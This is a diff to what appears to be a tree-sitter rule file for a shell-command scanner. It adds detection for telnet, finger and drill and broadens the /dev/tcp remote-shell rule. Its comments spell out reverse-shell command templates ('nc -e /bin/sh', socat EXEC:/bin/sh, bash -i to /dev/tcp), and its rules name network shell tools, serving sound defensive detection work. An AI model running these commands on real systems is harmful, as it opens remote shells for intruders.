@@ -53,16 +53,20 @@
 ; nc HOST PORT   nc -l PORT: what the other side sends; nc -e /bin/sh HOST PORT
 ((command_name) @source.fetcher
   (#word-is? @source.fetcher "nc" "ncat" "netcat" "nc.exe" "ncat.exe")
+  (#set! options "nc"))
+
+; telnet HOST PORT
+((command_name) @source.fetcher
+  (#word-is? @source.fetcher "telnet")
   (#set! writes "stdout")
-  (#set! hands "-e --exec -c --sh-exec --lua-exec")
-  (#set! idle "-z -h --help --version"))
+  (#set! values "-b -e -l -n -S -X"))
 
 ; socat - TCP:HOST:PORT   socat TCP:HOST:PORT EXEC:/bin/sh
 ((command_name) @source.fetcher
   (#word-is? @source.fetcher "socat")
   (#set! writes "stdout")
   (#set! hands "EXEC: SYSTEM: SHELL:")
-  (#set! needs "TCP: TCP4: TCP6: TCP-CONNECT: TCP4-CONNECT: TCP6-CONNECT: TCP-LISTEN: TCP4-LISTEN: TCP6-LISTEN: TCP-L: TCP4-L: UDP: UDP4: UDP-LISTEN: UDP-RECV: OPENSSL: OPENSSL-CONNECT: OPENSSL-LISTEN: SSL: SSL-L: PROXY: PROXY-CONNECT: SOCKS4: SOCKS4A: SOCKS5: UNIX-CONNECT: UNIX: VSOCK-CONNECT:")
+  (#set! needs "TCP: TCP4: TCP6: TCP-CONNECT: TCP4-CONNECT: TCP6-CONNECT: TCP-LISTEN: TCP4-LISTEN: TCP6-LISTEN: TCP-L: TCP4-L: UDP: UDP4: UDP-LISTEN: UDP-RECV: OPENSSL: OPENSSL-CONNECT: OPENSSL-LISTEN: SSL: SSL-L: PROXY: PROXY-CONNECT: SOCKS4: SOCKS4A: SOCKS5: VSOCK-CONNECT:")
   (#set! idle "-h -V"))
 
 ; openssl s_client -quiet -connect HOST:PORT
@@ -73,9 +77,15 @@
 
 ; dig +short TXT NAME
 ((command_name) @source.fetcher
-  (#word-is? @source.fetcher "dig" "kdig")
+  (#word-is? @source.fetcher "dig" "kdig" "drill")
   (#set! writes "stdout")
   (#set! needs "TXT"))
+
+; finger USER@HOST
+((command_name) @source.fetcher
+  (#word-is? @source.fetcher "finger")
+  (#set! writes "stdout")
+  (#set! address "user"))
 
 ; host -t TXT NAME   nslookup -type=TXT NAME
 ((command_name) @source.fetcher
@@ -194,8 +204,17 @@
 
 ; bash -i >& /dev/tcp/HOST/PORT 0>&1   cat < /dev/tcp/HOST/PORT
 (file_redirect
-  destination: (word) @source.socket
-  (#match? @source.socket "^\\/dev\\/tcp\\/.+$")
+  destination: [
+    (word)
+    (concatenation)
+    ] @source.socket
+  (#match? @source.socket "^\\/dev\\/(tcp|udp)\\/.+$")
+  (#set! rule "bash/remote-shell"))
+
+; sh < "/dev/tcp/$HOST/$PORT"
+(file_redirect
+  destination: (string) @source.socket
+  (#match? @source.socket "^\"\\/dev\\/(tcp|udp)\\/.+$")
   (#set! rule "bash/remote-shell"))
 
 ; irm URL   Invoke-WebRequest -Uri URL: in PowerShell, and where it is called from a sentence or a shell
